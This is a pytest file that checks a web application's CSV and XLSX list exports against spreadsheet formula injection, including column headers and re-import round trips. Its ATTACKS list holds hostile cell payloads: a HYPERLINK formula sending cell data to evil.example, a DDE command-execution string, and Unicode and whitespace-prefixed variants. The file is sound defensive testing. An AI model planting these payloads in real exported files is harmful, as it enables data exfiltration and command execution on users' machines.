"""Nothing that somebody types becomes a formula in the spreadsheet of somebody else."""

import csv
import io

import openpyxl
import pytest

from shidra.initiatives.models import Initiative, Place
from shidra.network.models import Promise
from tests.personas import signed_in
from tests.records.browsing import Desk, number_of

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff20SUM(A1)",
    "|calc",
    "%0A=1+1",
    "\u200f=1+1",
]
STARTS = tuple("=+-@|%\uff1d\uff0b\uff0d\uff20")


def computes(text: str) -> bool:
    """Whether a spreadsheet might take the cell for a formula, whatever blanks stand before it."""
    return text.lstrip(" \t\r\n\u200e\u200f\u2066\u2067\u2069\ufeff").startswith(STARTS)


@pytest.fixture
def desk(ready_together: Initiative) -> Desk:
    return Desk(signed_in("backbone", ready_together), ready_together)


def sheet(desk: Desk, table: str, kind: str) -> list[list[str]]:
    content = desk.get(f"{table}/list.{kind}").content
    if kind == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    rows = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0].iter_rows()
    cells = [list(row) for row in rows]
    assert all(cell.data_type != "f" for row in cells for cell in row)
    return [[str(cell.value or "") for cell in row] for row in cells]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_of_a_list_is_never_computed(desk, ready_together, attack, kind):
    path = f"promises/{number_of(ready_together, 'promises', 'PR01')}/"
    promise = Promise.objects.get(code="PR01")
    promise.leader = attack[:100]
    promise.save(update_fields=["leader"])
    assert desk.get(path)
    header, *rows = sheet(desk, "promises", kind)
    assert not [cell for row in rows for cell in row if computes(cell)]
    (told,) = [row[header.index("leader")] for row in rows if row[0] == "PR01"]
    assert attack.strip()[1:6] in told


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_nor_is_the_name_of_a_column_of_ones_own(desk, ready_together, kind):
    place = Place.objects.filter(initiative=ready_together)[0]
    place.attributes = {"=1+1": "ערך", "@SUM(A1)": "ערך"}
    place.save(update_fields=["attributes"])
    header, *_rows = sheet(desk, "places", kind)
    assert not [title for title in header if computes(title)]
    assert "'=1+1" in header


def test_a_file_that_was_taken_along_loads_again_under_the_same_names(desk, ready_together):
    place = Place.objects.filter(initiative=ready_together)[0]
    place.attributes = {"=1+1": "=2+2"}
    place.save(update_fields=["attributes"])
    told = desk.get("places/list.csv").content.decode("utf-8-sig")
    Place.objects.filter(pk=place.pk).update(attributes={})
    desk.post("places/paste/", {"rows": told, "act": "save"}, status=302)
    place.refresh_from_db()
    assert place.attributes == {"=1+1": "=2+2"}
